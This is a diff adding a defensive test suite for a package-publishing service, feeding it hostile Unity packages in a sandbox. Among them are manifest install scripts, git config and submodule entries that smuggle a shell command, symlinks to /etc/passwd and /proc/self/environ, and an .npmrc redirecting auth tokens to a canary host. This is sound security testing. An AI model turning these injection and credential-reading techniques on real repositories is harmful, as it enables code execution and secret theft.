@@ -1,0 +1,189 @@
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { meta, type TreeFiles, unityPackage } from '../../sandbox/unity-repository.ts';
+import { type HostileWorld, startHostileWorld } from './hostile-world.ts';
+import { findPlanted } from './planted.ts';
+import { folderOf } from './releasing.ts';
+import { packageOf } from './report-reading.ts';
+import { filesOf, manifestOf } from './tarballs.ts';
+
+let hostile: HostileWorld;
+
+beforeAll(async () => {
+  hostile = await startHostileWorld(['studio/rooted']);
+});
+
+afterAll(async () => hostile.stop());
+
+interface Extra {
+  readonly manifest?: Readonly<Record<string, unknown>>;
+  readonly files?: TreeFiles;
+}
+
+function packageWith(name: string, extra: Extra = {}): TreeFiles {
+  return unityPackage(name, '1.0.0', { folder: folderOf(name), ...extra });
+}
+
+describe('code in a repository', () => {
+  it('is not run by any script of the manifest, and the registry does not hear of them', async () => {
+    const run = `touch ${hostile.marker}`;
+    const names = ['preinstall', 'install', 'postinstall', 'prepublish', 'prepublishOnly', 'publish'];
+    const all = [...names, 'postpublish', 'prepack', 'prepare', 'postpack', 'preversion', 'version'];
+    const name = 'com.studio.scripts';
+    const scripts = Object.fromEntries(all.map((script) => [script, run]));
+    const job = await hostile.attack({
+      files: packageWith(name, { manifest: { scripts, gypfile: true }, files: { 'binding.gyp~': '{}' } }),
+    });
+    expect(packageOf(job, name).outcome).toBe('published');
+    expect(await manifestOf(hostile.world, name)).not.toHaveProperty('scripts');
+  });
+
+  it('is not run by an embedded repository, attributes, hooks or submodule settings', async () => {
+    const run = `touch ${hostile.marker}`;
+    const name = 'com.studio.embedded';
+    const config = `[core]\n\trepositoryformatversion = 0\n\tbare = true\n\tfsmonitor = "${run}"\n\tsshCommand = "${run}"\n\tpager = "${run}"\n`;
+    const job = await hostile.attack({
+      files: packageWith(name, {
+        files: {
+          'Tools~/bare/HEAD': 'ref: refs/heads/main\n',
+          'Tools~/bare/config': config,
+          'Tools~/bare/objects/info/alternates': '/\n',
+          'Tools~/bare/refs/heads/main': `${'0'.repeat(40)}\n`,
+          'Tools~/bare/hooks/post-checkout': { executable: `#!/bin/sh\n${run}\n` },
+          '.gitattributes': '* filter=evil diff=evil merge=evil ident export-subst\n',
+          '.gitmodules': `[submodule "x"]\n\tpath = x\n\turl = ext::sh -c "${run}"\n\tupdate = !${run}\n`,
+          '.lfsconfig': `[lfs]\n\turl = ${hostile.canaryUrl}\n`,
+        },
+      }),
+    });
+    expect(packageOf(job, name).outcome).toBe('published');
+  });
+});
+
+describe('a symbolic link', () => {
+  it('instead of the manifest is named and not followed', async () => {
+    const name = 'com.studio.environ';
+    const file = `${folderOf(name)}/package.json`;
+    const job = await hostile.attack({
+      files: { ...packageWith(name), [file]: { symlink: '/proc/self/environ' } },
+    });
+    expect(packageOf(job, folderOf(name))).toMatchObject({
+      outcome: 'failed',
+      reason: 'manifest-invalid',
+      title: `${file}:1:1 is a symbolic link; commit the file itself`,
+    });
+  });
+
+  it.each([
+    ['readme', 'README.md', '/etc/passwd'],
+    ['environ', 'README.md', '/proc/self/environ'],
+    ['folder', 'Runtime/Host', '/etc'],
+    ['root', 'Everything', '/'],
+    ['hidden', 'Documentation~/link.md', '/etc/passwd'],
+    ['inside', 'Runtime/Inside.cs', 'Example.cs'],
+  ])('called %s in a package stops it by name (%s)', async (word, path, symlink) => {
+    const name = `com.studio.link.${word}`;
+    const job = await hostile.attack({ files: packageWith(name, { files: { [path]: { symlink } } }) });
+    expect(packageOf(job, name)).toMatchObject({
+      outcome: 'failed',
+      reason: 'preflight-rejected',
+      title: `${path} is a symbolic link; commit the file itself`,
+      findings: [{ rule: 'path.symlink', file: path }],
+    });
+    expect(await hostile.world.packument(name)).toBeUndefined();
+  });
+
+  it('as CHANGELOG.md lets nothing be written to the file behind it', async () => {
+    const name = 'com.studio.link.changelog';
+    const files = packageWith(name, { files: { 'CHANGELOG.md': { symlink: hostile.hostFile } } });
+    const job = await hostile.attack({ files });
+    expect(packageOf(job, name).findings).toMatchObject([{ rule: 'path.symlink', file: 'CHANGELOG.md' }]);
+  });
+
+  it('in a dot folder, which npm would not ship as a link, is left out', async () => {
+    const name = 'com.studio.link.dot';
+    const files = packageWith(name, { files: { '.tools/link': { symlink: hostile.hostFile } } });
+    expect(packageOf(await hostile.attack({ files }), name).outcome).toBe('published');
+    expect(await filesOf(hostile.world, name)).not.toContain('.tools/link');
+  });
+});
+
+describe('bundled modules', () => {
+  it.each([
+    [
+      'as a link to a host folder',
+      (folder: string): TreeFiles => ({ 'node_modules/host': { symlink: folder } }),
+    ],
+    ['as one link for all', (folder: string): TreeFiles => ({ node_modules: { symlink: folder } })],
+    [
+      'committed with links inside',
+      (folder: string): TreeFiles => ({
+        'node_modules/host/package.json': '{"name":"host","version":"1.0.0"}',
+        'node_modules/host/link': { symlink: `${folder}/host.txt` },
+      }),
+    ],
+  ])('%s are not packed', async (how, files) => {
+    const name = `com.studio.bundle.${how.split(' ').at(-1)}`;
+    for (const bundleDependencies of [true, ['host']]) {
+      const version = bundleDependencies === true ? '1.0.0' : '1.0.1';
+      const job = await hostile.attack({
+        files: unityPackage(name, version, {
+          folder: folderOf(name),
+          manifest: {
+            bundleDependencies,
+            bundledDependencies: bundleDependencies,
+            dependencies: { host: '1.0.0' },
+          },
+          files: files(hostile.hostFolder),
+        }),
+      });
+      expect(packageOf(job, name).outcome).toBe('published');
+      const packed = await filesOf(hostile.world, name, version);
+      expect(packed.filter((path) => path.includes('node_modules'))).toEqual([]);
+    }
+  });
+});
+
+describe('a registry of the repository’s own choice', () => {
+  it('in publishConfig is ignored: the package goes to ours', async () => {
+    const name = 'com.studio.elsewhere';
+    const registry = hostile.canaryUrl;
+    const publishConfig = { registry, '@studio:registry': registry, access: 'public', tag: 'evil' };
+    const job = await hostile.attack({ files: packageWith(name, { manifest: { publishConfig } }) });
+    expect(packageOf(job, name)).toMatchObject({ outcome: 'published', distTag: 'latest' });
+    expect(await manifestOf(hostile.world, name)).not.toHaveProperty('publishConfig');
+  });
+
+  it('in .npmrc files is ignored, and the files are not shipped', async () => {
+    const name = 'com.studio.npmrc';
+    const { host } = new URL(hostile.canaryUrl);
+    const npmrc = `registry=${hostile.canaryUrl}\n//${host}/:_authToken=\${NPM_TOKEN}\nmain=\${STUDIO_PLANTED}\n`;
+    const files = { ...unityPackage(name, '1.0.0', { files: { '.npmrc': npmrc, 'Tools~/.npmrc': npmrc } }) };
+    const job = await hostile.attack({ files }, 'studio/rooted');
+    expect(packageOf(job, name).outcome).toBe('published');
+    const packed = await filesOf(hostile.world, name);
+    expect(packed).toContain('Runtime/Example.cs');
+    expect(packed.filter((path) => path.endsWith('.npmrc'))).toEqual([]);
+  });
+
+  it('and addresses in dependencies are asked for nothing', async () => {
+    const name = 'com.studio.urls';
+    const url = `${hostile.canaryUrl}x.tgz`;
+    const dependencies = { a: url, b: `git+${hostile.canaryUrl}x.git`, c: `file:${hostile.hostFile}` };
+    const repository = { type: 'git', url: `${hostile.canaryUrl}x/y.git` };
+    const manifest = { dependencies, repository, _resolved: url, dist: { tarball: url } };
+    const job = await hostile.attack({ files: packageWith(name, { manifest }) });
+    expect(packageOf(job, name).outcome).toBe('published');
+  });
+});
+
+it('would have found what was planted, had it been packed', async () => {
+  const name = 'com.studio.control';
+  const files = packageWith(name, { files: { 'Data.txt': 'CONTROL-TEXT', 'Data.txt.meta': meta(name) } });
+  await hostile.attack({ files });
+  expect(await filesOf(hostile.world, name)).toContain('Data.txt');
+  const storage = join(hostile.world.folder, 'registry', 'storage');
+  expect(await findPlanted(storage, { control: 'CONTROL-TEXT' })).toEqual([
+    `control in ${name}/${name}-1.0.0.tgz`,
+  ]);
+});
